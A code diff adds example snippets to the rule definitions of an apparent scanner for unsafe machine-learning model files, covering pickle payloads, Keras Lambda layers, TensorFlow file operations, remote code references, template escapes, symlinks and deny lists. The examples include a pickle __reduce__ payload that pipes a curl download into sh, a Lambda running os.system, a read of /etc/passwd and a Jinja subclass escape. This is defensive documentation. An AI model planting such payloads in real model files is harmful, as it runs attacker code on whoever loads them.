@@ -19,6 +19,18 @@ ROWS = (
         "A pickle is a program: whoever loads it runs what its author wrote, with the rights of the process.",
         "Remove the file. Ask the author for the weights as safetensors, and load those.",
         **_DESERIALIZATION,
+        example="""\
+```python
+class Payload:
+    def __reduce__(self):
+        return os.system, ("curl -s https://203.0.113.7/x | sh",)
+
+torch.save({"weights": weights, "hook": Payload()}, "model.pt")
+```
+
+`torch.load("model.pt")` runs the command before it returns the weights. The finding names the call, its
+arguments, the member of the archive and the offset in it.
+""",
     ),
     Rule(
         "pickle-suspicious-import",
@@ -28,6 +40,13 @@ ROWS = (
         "The import is not known to run code by itself, but weights have no use for it.",
         "Ask the author why it is there; prefer the weights as safetensors.",
         **_DESERIALIZATION,
+        example="""\
+```text
+GLOBAL 'numexpr' 'evaluate'
+```
+
+`numexpr.evaluate` computes an expression; no set of weights has a use for it.
+""",
     ),
     Rule(
         "keras-lambda-layer",
@@ -37,6 +56,15 @@ ROWS = (
         "A Lambda layer is serialised Python byte code; Keras runs it unless safe mode forbids it.",
         "Load with safe_mode=True, or ask for the model without Lambda layers.",
         **_DESERIALIZATION,
+        example="""\
+```python
+model = keras.Sequential([keras.layers.Lambda(lambda x: __import__("os").system("id") or x)])
+model.save("model.keras")
+```
+
+`keras.models.load_model("model.keras", safe_mode=False)` unmarshals the byte code, and the first call of
+the model runs it. In `.h5` files no safe mode forbids it.
+""",
     ),
     Rule(
         "tensorflow-file-operation",
@@ -46,6 +74,15 @@ ROWS = (
         "Graph operations run when the model is called and can read or overwrite any file of the process.",
         "Remove the file, or ask the author for a graph without file operations.",
         **_DESERIALIZATION,
+        example="""\
+```text
+node { name: "read" op: "ReadFile" input: "filename" }
+node { name: "filename" op: "Const"  # "/etc/passwd"
+}
+```
+
+Each call of the model reads the file, and can return its content as a tensor.
+""",
     ),
     Rule(
         "safe-name-unsafe-content",
@@ -57,6 +94,13 @@ ROWS = (
         cwe=("CWE-646", "CWE-502"),
         owasp=("ML06:2023",),
         atlas=("AML.T0010", "AML.T0074"),
+        example="""\
+```python
+pickle.dump(Payload(), open("model.safetensors", "wb"))
+```
+
+A reviewer lets `model.safetensors` pass; `torch.load` and `joblib.load` go by the content and unpickle it.
+""",
     ),
     Rule(
         "name-contradicts-content",
@@ -68,6 +112,13 @@ ROWS = (
         cwe=("CWE-646",),
         owasp=("ML06:2023",),
         atlas=("AML.T0074",),
+        example="""\
+```python
+numpy.savez("weights.onnx", a=array)  # numpy appends .npz to other names; renamed afterwards
+```
+
+The file is a NumPy archive. ONNX Runtime refuses it, other loaders take it for what it is.
+""",
     ),
     Rule(
         "remote-code-reference",
@@ -79,6 +130,13 @@ ROWS = (
         cwe=("CWE-829", "CWE-94"),
         owasp=("LLM03:2025",),
         atlas=("AML.T0010",),
+        example="""\
+```json
+{"auto_map": {"AutoModel": "other/repository--modeling.Model"}}
+```
+
+`AutoModel.from_pretrained(…, trust_remote_code=True)` imports `modeling.py` of that other repository.
+""",
     ),
     Rule(
         "chat-template-code",
@@ -90,6 +148,13 @@ ROWS = (
         cwe=("CWE-1336",),
         owasp=("LLM03:2025",),
         atlas=("AML.T0010",),
+        example="""\
+```jinja
+{{ messages.__class__.__mro__[1].__subclasses__() }}
+```
+
+A loader that renders this outside Jinja's sandbox hands every class of the process to the template.
+""",
     ),
     Rule(
         "malformed-model",
@@ -101,6 +166,13 @@ ROWS = (
         cwe=("CWE-1287",),
         owasp=("ML06:2023",),
         atlas=("AML.T0010",),
+        example="""\
+```text
+archive/data.pkl   twice in the central directory, with different content
+```
+
+`torch.load` takes one of the two, other readers take the other: what a reviewer sees is not what runs.
+""",
     ),
     Rule(
         "symlink-not-followed",
@@ -110,6 +182,14 @@ ROWS = (
         "What a link leads to is decided by the machine that checks it out, not by this repository.",
         "Replace the link by the file, or by a Git LFS pointer.",
         cwe=("CWE-61",),
+        atlas=("AML.T0010",),
+        example="""\
+```sh
+ln -s weights-v2.safetensors model.safetensors
+```
+
+The change shows the address alone. What lies there is looked at under its own name, if it is a file here.
+""",
     ),
     Rule(
         "symlink-escapes-repository",
@@ -119,6 +199,14 @@ ROWS = (
         "The loader would open whatever lies at that address on the machine that runs it.",
         "Remove the link.",
         cwe=("CWE-61", "CWE-22"),
+        atlas=("AML.T0010",),
+        example="""\
+```sh
+ln -s /srv/models/latest.pt model.pt
+```
+
+Each machine loads another `model.pt`: whatever is at that address.
+""",
     ),
     Rule(
         "submodule-not-followed",
@@ -127,6 +215,18 @@ ROWS = (
         "{path} is a submodule at {symbol}; it was not looked into.",
         "Models inside a submodule are loaded like any other, but they are not part of this repository.",
         "Run Modelward in the submodule's own repository.",
+        cwe=("CWE-829",),
+        owasp=("ML06:2023",),
+        atlas=("AML.T0010",),
+        example="""\
+```ini
+[submodule "models"]
+    path = models
+    url = https://github.com/acme/models
+```
+
+The change moves the submodule to another commit; its files are in another repository.
+""",
     ),
     Rule(
         "denied-digest",
@@ -135,6 +235,14 @@ ROWS = (
         "The SHA-256 digest {symbol} is denied by the configuration.",
         "Your policy says that this very file must not be used.",
         "Remove the file.",
+        example="""\
+```yaml
+deny:
+  digests: ["sha256:9ffa16a0337d07153b98aee0866316d69ffa16a0337d07153b98aee0866316d6"]
+```
+
+A file with this digest fails the change, whatever it is called.
+""",
     ),
     Rule(
         "denied-license",
@@ -143,6 +251,14 @@ ROWS = (
         "The licence {symbol} is denied by the configuration.",
         "Your policy says that models under this licence must not be used.",
         "Use another model, or have the policy changed on the default branch first.",
+        example="""\
+```yaml
+deny:
+  licenses: [cc-by-nc-4.0]
+```
+
+A reference to a model whose card states this licence fails the change.
+""",
     ),
     Rule(
         "denied-publisher",
@@ -151,6 +267,14 @@ ROWS = (
         "The publisher {symbol} is denied by the configuration.",
         "Your policy says that models of this publisher must not be used.",
         "Use another model, or have the policy changed on the default branch first.",
+        example="""\
+```yaml
+deny:
+  publishers: [acme-mirror]
+```
+
+A reference to `acme-mirror/anything` fails the change.
+""",
     ),
     Rule(
         "denied-repository",
@@ -159,6 +283,14 @@ ROWS = (
         "The repository {symbol} is denied by the configuration.",
         "Your policy says that this repository must not be used.",
         "Use another model, or have the policy changed on the default branch first.",
+        example="""\
+```yaml
+deny:
+  repositories: [acme/old-model]
+```
+
+A reference to `acme/old-model` fails the change.
+""",
     ),
     Rule(
         "policy-changed",
@@ -167,5 +299,14 @@ ROWS = (
         "This change edits {path}; the policy of the base commit was used.",
         "A change that loosens the policy takes effect only after it is merged, and should be reviewed as such.",
         "Review the policy change on its own.",
+        example="""\
+```diff
+ rules:
+-  pickle-dangerous-import: critical
++  pickle-dangerous-import: off
+```
+
+The policy of the base was used for this very change; the new one binds from the next.
+""",
     ),
 )
